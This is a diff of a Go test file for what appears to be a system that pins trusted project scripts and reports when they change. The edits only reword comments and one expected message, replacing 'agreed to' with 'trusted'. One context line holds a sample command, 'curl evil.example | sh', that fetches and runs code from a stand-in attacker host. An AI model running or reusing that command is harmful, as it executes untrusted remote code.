@@ -270,7 +270,7 @@ func Example() {
 	// + curl evil.example | sh
 }
 
-// What was agreed to is kept, so that it can be shown how it changed; it goes with what refers to it,
+// What was trusted is kept, so that it can be shown how it changed; it goes with what refers to it,
 // and one that cannot be relied on is one that was not kept.
 func TestContent(t *testing.T) {
 	s, project := open(t)
@@ -331,7 +331,7 @@ func TestContent(t *testing.T) {
 		if err := do(); err != nil {
 			t.Fatal(name, err)
 		}
-		if got := diff(); got.State != trust.Changed || got.OldContent != "" || !strings.Contains(got.Diff(), "what .superstep/tools/a.sh was when it was agreed to was not kept") {
+		if got := diff(); got.State != trust.Changed || got.OldContent != "" || !strings.Contains(got.Diff(), "what .superstep/tools/a.sh was when it was trusted was not kept") {
 			t.Errorf("%s: %q", name, got.Diff())
 		}
 		if err := errors.Join(os.Chmod(side, 0o700), os.WriteFile(kept, good, 0o600), os.Chmod(kept, 0o600)); err != nil {
@@ -374,7 +374,7 @@ func TestContentBounds(t *testing.T) {
 	}
 }
 
-// What was seen is agreed to as it was seen, by nothing but Trust.
+// What was seen is trusted as it was seen, by nothing but Trust.
 func TestSeen(t *testing.T) {
 	s, project := open(t)
 	pin := func(digit string) trust.Item {
